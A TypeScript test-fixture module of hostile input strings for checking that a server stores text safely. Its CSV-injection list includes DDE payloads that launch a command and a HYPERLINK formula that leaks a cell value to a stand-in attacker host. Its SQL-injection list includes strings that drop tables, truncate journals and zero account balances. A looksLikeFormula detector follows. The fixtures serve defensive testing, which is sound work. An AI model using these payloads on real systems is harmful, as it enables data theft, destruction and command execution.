/**
 * Strings a hostile client sends where text is accepted (names, notes, reasons): each is valid text,
 * so the server may store it, and must then never let it act — not as SQL in the database, not as a
 * formula in a spreadsheet opened from an export or report.
 */

/** Text that a spreadsheet would run as a formula (OWASP "CSV injection"), each a way in. */
export const FORMULA_STRINGS = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '-cmd',
  '+cmd',
  '@cmd',
  '=DDE("cmd";"/C calc";"!A0")',
] as const;

/** Classic SQL injection attempts: stored verbatim as text, never run. */
export const SQL_INJECTION_STRINGS = [
  "'; DROP TABLE entries; --",
  "' OR '1'='1",
  "Robert'); DROP TABLE patrons;--",
  '1; DELETE FROM postings',
  '"; UPDATE accounts SET posted_tiyn = 0; --',
  "%' AND 1=1 --",
  "\\'; SELECT pg_sleep(5); --",
  '$$; TRUNCATE journal_head; $$',
] as const;

/** True when a spreadsheet would take the cell's text as a formula: it starts with = + - @ tab or CR. */
export function looksLikeFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-?[0-9]+(\.[0-9]+)?$/.test(cell);
}
